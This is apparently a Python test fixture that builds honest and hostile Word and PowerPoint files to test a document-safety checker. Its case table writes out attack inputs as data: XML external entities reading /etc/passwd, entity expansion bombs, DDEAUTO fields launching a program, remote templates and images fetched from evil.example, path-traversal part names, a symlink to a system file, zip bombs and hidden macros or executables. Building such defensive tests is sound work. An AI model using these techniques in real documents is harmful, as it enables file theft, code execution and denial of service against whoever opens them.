"""DOCX and PPTX files: honest ones, and those that run, fetch, carry, burst or pretend."""

import stat
import zipfile
from xml.sax.saxutils import escape

from tests.hostile.zips import a_zip, overlapping

OFFICE_TYPE = "application/vnd.openxmlformats-officedocument."
WORD = f"{OFFICE_TYPE}wordprocessingml.document.main+xml"
SLIDES = f"{OFFICE_TYPE}presentationml.presentation.main+xml"
LINKS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
HEAD = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"


def types(main: str, name: str, *more: str) -> bytes:
    """Return [Content_Types].xml."""
    return (
        f'{HEAD}<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" '
        'ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        f'<Override PartName="/{name}" ContentType="{main}"/>{"".join(more)}</Types>'
    ).encode()


def links(*rows: str) -> bytes:
    """Return a part with relationships."""
    space = "http://schemas.openxmlformats.org/package/2006/relationships"
    return f'{HEAD}<Relationships xmlns="{space}">{"".join(rows)}</Relationships>'.encode()


def a_link(kind: str, target: str, mode: str = "", number: int = 1) -> str:
    """Return one relationship."""
    outside = f' TargetMode="{mode}"' if mode else ""
    return f'<Relationship Id="r{number}" Type="{LINKS}/{kind}" Target="{target}"{outside}/>'


def words(inside: str = "<w:p><w:r><w:t>Dag allemaal</w:t></w:r></w:p>") -> bytes:
    """Return word/document.xml."""
    return f'{HEAD}<w:document xmlns:w="{W}"><w:body>{inside}</w:body></w:document>'.encode()


def word_parts(**changes: bytes) -> dict[str, bytes]:
    """Return the parts of an honest DOCX; changes by their short name."""
    return {
        "[Content_Types].xml": changes.get("types", types(WORD, "word/document.xml")),
        "_rels/.rels": changes.get("root", links(a_link("officeDocument", "word/document.xml"))),
        "word/document.xml": changes.get("words", words()),
        "word/_rels/document.xml.rels": changes.get("links", links()),
    }


def a_docx(more: dict[object, bytes] | None = None, **changes: bytes) -> bytes:
    """Return a DOCX, honest without changes."""
    return a_zip({**word_parts(**changes), **(more or {})})


def a_pptx(slide: str = "<p:sld xmlns:p='x'/>", more: dict[str, bytes] | None = None) -> bytes:
    """Return a PPTX with one slide."""
    return a_zip(
        {
            "[Content_Types].xml": types(SLIDES, "ppt/presentation.xml"),
            "_rels/.rels": links(a_link("officeDocument", "ppt/presentation.xml")),
            "ppt/presentation.xml": f"{HEAD}<p:presentation xmlns:p='x'/>".encode(),
            "ppt/slides/slide1.xml": f"{HEAD}{slide}".encode(),
            **(more or {}),
        }
    )


def linked(kind: str, target: str, mode: str = "External") -> bytes:
    """Return a DOCX with one link of this kind."""
    return a_docx(links=links(a_link(kind, target, mode)))


def a_field(*pieces: str, result: str = "") -> str:
    """Return the runs of a field; a piece of its instruction may be words or a run itself."""
    runs = (
        piece
        if piece.startswith("<w:r")
        else f"<w:r><w:instrText>{escape(piece)}</w:instrText></w:r>"
        for piece in pieces
    )
    begin, separate, end = (
        f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>' for kind in ("begin", "separate", "end")
    )
    return f"{begin}{''.join(runs)}{separate}{result}{end}"


def with_field(*pieces: str) -> bytes:
    """Return a DOCX with a field, its instruction written in pieces."""
    return a_docx(words=words(f"<w:p>{a_field(*pieces)}</w:p>"))


def named(name: str) -> bytes:
    """Return a DOCX with a part of this name."""
    return a_docx({name: b"<x/>"})


def a_symlink() -> bytes:
    """Return a DOCX of which a part is a link to a file of the system."""
    part = zipfile.ZipInfo("word/settings.xml")
    part.create_system = 3
    part.external_attr = (stat.S_IFLNK | 0o777) << 16
    return a_docx({part: b"/etc/passwd"})


def encrypted() -> bytes:
    """Return a DOCX of which every part says that it asks for a password."""
    content = bytearray(a_docx())
    at = -1
    while (at := content.find(b"PK\x01\x02", at + 1)) >= 0:
        content[at + 8] |= 1
    return bytes(content)


def lying(size: int) -> bytes:
    """Return a DOCX whose directory promises fewer bytes than a part unpacks to."""
    honest = a_docx({"word/media/a.bmp": b"BM" + bytes(200_000)})
    told = (200_002).to_bytes(4, "little")
    assert honest.count(told) == 2
    return honest.replace(told, size.to_bytes(4, "little"))


BILLION = (
    b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "lol"><!ENTITY b "&a;&a;&a;&a;&a;&a;">'
    b'<!ENTITY c "&b;&b;&b;&b;&b;&b;">]><x>&c;</x>'
)
OUTSIDE = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>'
PARAMETER = b'<?xml version="1.0"?><!DOCTYPE x SYSTEM "http://evil.example/x.dtd"><x/>'
WIDE = OUTSIDE.decode().replace("1.0", '1.0" encoding="UTF-16').encode("utf-16")
DEEP = ("<x>" * 5_000 + "</x>" * 5_000).encode()
MACRO = "application/vnd.ms-word.document.macroEnabled.main+xml"
DOCX = a_docx()
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)

OFFICE: dict[str, tuple[str, bytes, str]] = {
    "macros in a DOCM": ("a.docm", a_docx(types=types(MACRO, "word/document.xml")), "macro"),
    "macros under another name": ("a.docx", a_docx({"word/vbaProject.bin": OLE}), "object"),
    "macros without their mark": ("a.docx", a_docx({"word/vbaProject.bin": b"x"}), "macro"),
    "a link to macros": ("a.docx", linked("vbaProject", "x.xml", ""), "macro"),
    "an ActiveX control": ("a.docx", linked("control", "activeX/x.xml", ""), "object"),
    "an OLE object": ("a.docx", linked("oleObject", "embeddings/x.xml", ""), "object"),
    "an OLE object outside": ("a.docx", linked("oleObject", "http://evil.example/x"), "object"),
    "an embedded workbook": (
        "a.pptx",
        a_pptx(more={"ppt/embeddings/a.xlsx": a_zip({"x": b"y"})}),
        "object",
    ),
    "a program": ("a.docx", a_docx({"word/media/a.png": b"MZ\x90\x00"}), "object"),
    "a program for Linux": ("a.docx", a_docx({"word/media/a.png": b"\x7fELF"}), "object"),
    "a program of another ending": ("a.docx", a_docx({"word/a.exe": b"hallo"}), "object"),
    "a program among the settings of a printer": (
        "a.pptx",
        a_pptx(more={"ppt/printerSettings/printerSettings1.bin": b"MZ\x90\x00"}),
        "object",
    ),
    "a shell script": ("a.docx", a_docx({"word/media/a.png": b"#!/bin/sh"}), "object"),
    "a shortcut": (
        "a.pptx",
        a_pptx(more={"ppt/media/a.png": b"L\x00\x00\x00\x01\x14\x02\x00"}),
        "object",
    ),
    "a page for a browser": ("a.docx", a_docx({"word/a.html": b"<html>"}), "object"),
    "a PDF": ("a.docx", a_docx({"word/media/a.png": b"%PDF-1.7"}), "object"),
    "an SVG with a script": (
        "a.pptx",
        a_pptx(more={"ppt/media/a.svg": b"<svg><script>x</script></svg>"}),
        "object",
    ),
    "a ZIP in a ZIP": ("a.docx", a_docx({"word/a.xml": a_zip({"x": bytes(999)})}), "object"),
    "text of another format": ("a.docx", linked("aFChunk", "x.xml", ""), "object"),
    "a template elsewhere": (
        "a.docx",
        linked("attachedTemplate", "http://evil.example"),
        "outside",
    ),
    "a template on a share": ("a.docx", linked("attachedTemplate", "file://evil/x", ""), "outside"),
    "a picture elsewhere": ("a.docx", linked("image", "http://evil.example/x.png"), "outside"),
    "a frame": ("a.docx", linked("frame", "http://evil.example/"), "outside"),
    "a link to a file": ("a.docx", linked("hyperlink", "file:///etc/passwd"), "outside"),
    "a link with a script": ("a.docx", linked("hyperlink", "javascript:x"), "outside"),
    "a link to a share": ("a.docx", linked("hyperlink", "\\\\evil\\x"), "outside"),
    "a link to a protocol of Office": ("a.docx", linked("hyperlink", "ms-word:x"), "outside"),
    "a part on a share": ("a.docx", linked("image", "\\\\evil\\x.png", ""), "outside"),
    "a field that starts a program": ("a.docx", with_field("DDEAUTO c:\\calc"), "field"),
    "such a field in pieces": ("a.docx", with_field("DD", "EAUTO c:\\calc"), "field"),
    "such a field in one go": (
        "a.docx",
        a_docx(words=words('<w:p><w:fldSimple w:instr="DDE calc"/></w:p>')),
        "field",
    ),
    "a field that fetches": ("a.docx", with_field("INCLUDEPICTURE http://evil.example"), "field"),
    "a field with a script": ("a.docx", with_field('HYPERLINK "javascript:x"'), "field"),
    "a menu with macros": ("a.docx", linked("ui/extensibility", "customUI/x.xml", ""), "macro"),
    "a program of the web": ("a.docx", linked("webextensiontaskpanes", "x.xml", ""), "outside"),
    "a button on a slide": (
        "a.pptx",
        a_pptx("<a:hlinkClick xmlns:a='x' action='ppaction://program'/>"),
        "field",
    ),
    "a button with a macro": (
        "a.pptx",
        a_pptx("<a:hlinkClick xmlns:a='x' action='ppaction://macro?name=x'/>"),
        "field",
    ),
    "an entity from outside": ("a.docx", a_docx(words=OUTSIDE), "package"),
    "an entity in wide letters": ("a.docx", a_docx(words=WIDE), "package"),
    "an entity in its directory": ("a.docx", a_docx(types=OUTSIDE), "package"),
    "an entity in its links": ("a.docx", a_docx(links=OUTSIDE), "package"),
    "an entity in a part nobody reads": ("a.docx", a_docx({"x.xml": OUTSIDE}), "package"),
    "entities that multiply": ("a.docx", a_docx(words=BILLION), "package"),
    "a document type from outside": ("a.docx", a_docx(words=PARAMETER), "package"),
    "elements nested without end": ("a.docx", a_docx(words=DEEP), "package"),
    "XML that does not close": ("a.docx", a_docx(words=b"<x><y></x>"), "broken"),
    "a bomb of one part": ("a.docx", a_docx({"word/a.xml": bytes(30_000_000)}), "heavy"),
    "a bomb of many parts": (
        "a.docx",
        a_docx({f"word/{n}.xml": b"<x>" + bytes(999_000) for n in range(160)}),
        "heavy",
    ),
    "a bomb of thousands of parts": (
        "a.docx",
        a_docx({f"word/{n}.xml": b"<x/>" for n in range(2_100)}),
        "heavy",
    ),
    "a bomb of parts over one another": ("a.docx", overlapping("a.xml", 120, 900_000), "mixed"),
    "a bomb that hides its size": ("a.docx", lying(90), "broken"),
    "a name that climbs": ("a.docx", named("../../etc/cron.d/x.xml"), "package"),
    "a name from the root": ("a.docx", named("/etc/x.xml"), "package"),
    "a name as on Windows": ("a.docx", named("word\\..\\..\\x.xml"), "package"),
    "a name on a drive": ("a.docx", named("c:/x.xml"), "package"),
    "a link of the file system": ("a.docx", a_symlink(), "package"),
    "a password": ("a.docx", encrypted(), "locked"),
    "another ZIP": ("a.docx", a_zip({"x.txt": b"dag"}), "package"),
    "a workbook": (
        "a.docx",
        a_docx(types=types(f"{OFFICE_TYPE}spreadsheetml.sheet.main+xml", "word/document.xml")),
        "package",
    ),
    "a template of Word": (
        "a.docx",
        a_docx(types=types(WORD.replace("document.main", "template.main"), "word/document.xml")),
        "package",
    ),
    "a main part that is not there": (
        "a.docx",
        a_docx(root=links(a_link("officeDocument", "word/other.xml"))),
        "package",
    ),
    "cut in half": ("a.docx", DOCX[: len(DOCX) // 2], "broken"),
    "a changed byte": ("a.docx", DOCX[:60] + bytes([DOCX[60] ^ 0xFF]) + DOCX[61:], "broken"),
    "something behind it": ("a.docx", DOCX + b"<script>x</script>", "mixed"),
    "words behind it": ("a.docx", a_zip(word_parts(), comment=b"<?php x ?>"), "mixed"),
    "an old or locked file": ("a.docx", OLE, "old"),
}
